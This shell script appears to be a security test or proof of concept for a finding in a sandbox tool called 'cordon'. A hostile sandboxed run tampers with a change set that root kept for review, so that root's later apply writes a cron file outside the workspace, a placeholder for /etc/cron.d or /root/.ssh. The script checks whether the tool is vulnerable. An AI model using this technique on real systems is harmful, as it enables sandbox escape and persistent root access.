#!/bin/sh
# Finding (root variant of 03, critical): root's kept change set
# (.cordon-changes/<id>, root's, 0711/0600) lies inside the workspace of
# any later root-invoked run whose workspace is its parent or above. The
# workspace is idmapped so that host root's files are the run's own: the
# run (default overlay mode; direct works the same) rewrites meta (one
# layer more), empties protect and adds a layer 1 (host = anywhere, upper =
# its files) (0/upper, of the earlier run's uid, it cannot touch); its own apply makes all
# of it root's again (own()), so changeset_open's owner checks pass, and
# root's later `cordon apply` of the change set writes the run's files, as
# root, anywhere: here $T/outside (stands for /etc/cron.d or /root/.ssh).
# Usage (root): sh 06-root-kept-changeset-tamper.sh [CORDON]
set -u
CORDON=${1:-/work/wt/atk-ovl/build/cordon}
T=$(mktemp -d /tmp/atk-rk.XXXXXX)
mkdir -p "$T/src/proj" "$T/outside"
# 1. root's review-mode run of project proj: its change set is kept.
cd "$T/src/proj" && "$CORDON" run --report "$T/a.json" --workspace-mode review -- sh -c 'echo result > out.txt' || exit 1
D=$(python3 -c "import json,sys;print(json.load(open(sys.argv[1]))['changes']['dir'])" "$T/a.json")
echo "kept: $D"
# 2. A hostile run of root's with workspace $T/src (default mode).
cd "$T/src" && "$CORDON" run --report "$T/c.json" -- sh -c "
id
for d in .cordon-changes/*/; do
	sed -i 's/^layers 1\$/layers 2/' \"\$d/meta\"
	: > \"\$d/protect\"
	mkdir -p \"\$d/1/upper\" \"\$d/1/work\"
	printf %s '$T/outside' > \"\$d/1/host\"
	printf '* * * * * root echo pwned\\n' > \"\$d/1/upper/pwn\"
done" || exit 1
python3 -c "import json,sys;r=json.load(open(sys.argv[1]));print('hostile run: changes', r['changes']['state'], r['changes'].get('reason'), [o['path'] for o in r['outputs']])" "$T/c.json"
# 3. root applies the change set it kept for review.
"$CORDON" changes "$D"
"$CORDON" apply "$D"; echo "apply rc=$?"
ls -la "$T/outside"
if [ -e "$T/outside/pwn" ]; then
	echo "VULNERABLE: a sandboxed run had root write $T/outside/pwn (outside its workspace)"
	exit 1
fi
echo held
